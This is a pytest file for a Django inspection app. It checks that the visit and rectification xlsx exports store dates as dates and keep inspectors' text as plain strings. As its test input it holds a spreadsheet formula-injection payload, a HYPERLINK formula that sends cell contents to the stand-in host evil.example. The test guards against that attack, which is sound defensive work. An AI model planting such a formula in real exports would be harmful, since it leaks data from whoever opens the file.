"""The visit and rectification lists export their dates as Excel dates and what inspectors wrote as
text: a purpose or a requirement that looks like a formula reads back unchanged, never evaluated."""

import datetime
import io
import zoneinfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from dudao.core.testing.world import fresh, world_rolled_back
from dudao.inspections.tests.rectification_fixtures import issue_notice
from dudao.inspections.tests.visit_fixtures import record_visit

pytestmark = pytest.mark.django_db

TODAY = datetime.datetime(2026, 12, 5, 10, 0, tzinfo=zoneinfo.ZoneInfo("Asia/Shanghai"))
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'
LABELS = ("Date", "Purpose", "Notice number", "Requirements", "Issued on", "Deadline")


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with world_rolled_back(django_db_blocker) as world:
        yield world


@pytest.fixture(autouse=True)
def today():
    with time_machine.travel(TODAY, tick=False):
        yield


def exported_row(client, world, url_name: str, key_label: str, key_value) -> dict:
    """The office's export of a list: the cells of the row whose ``key_label`` cell holds ``key_value``,
    by their English label."""
    client.force_login(fresh(world.a.users["office_admin"]))
    sheet = load_workbook(io.BytesIO(client.get(reverse(url_name) + "?export=xlsx").content)).active
    with translation.override("zh-hans"):
        labels = {gettext(label): label for label in LABELS}
    headers = [labels.get(cell.value) for cell in sheet[1]]
    rows = [{h: cell for h, cell in zip(headers, row, strict=False) if h} for row in sheet.iter_rows(min_row=2)]
    return next(row for row in rows if row[key_label].value == key_value)


def test_the_visit_list_exports_dates_as_dates_and_the_purpose_as_written(world, client):
    visit = record_visit(fresh(world.a.users["inspector"]), world.a.schools[0], submit=True, purpose="=1+2",
                         date=datetime.date(2026, 11, 20))
    row = exported_row(client, world, "inspections:visit_list", "Purpose", visit.purpose)
    assert row["Date"].value == datetime.datetime(2026, 11, 20) and row["Date"].is_date
    assert row["Purpose"].value == "=1+2" and row["Purpose"].data_type == "s"


def test_the_rectification_list_exports_dates_as_dates_and_the_requirements_as_written(world, client):
    notice = issue_notice(world, requirements=FORMULA, issued_on=datetime.date(2026, 11, 20),
                          deadline=datetime.date(2026, 12, 20))
    row = exported_row(client, world, "inspections:rectification_list", "Notice number", notice.number)
    assert row["Issued on"].value == datetime.datetime(2026, 11, 20) and row["Issued on"].is_date
    assert row["Deadline"].value == datetime.datetime(2026, 12, 20) and row["Deadline"].is_date
    assert row["Requirements"].value == FORMULA and row["Requirements"].data_type == "s"
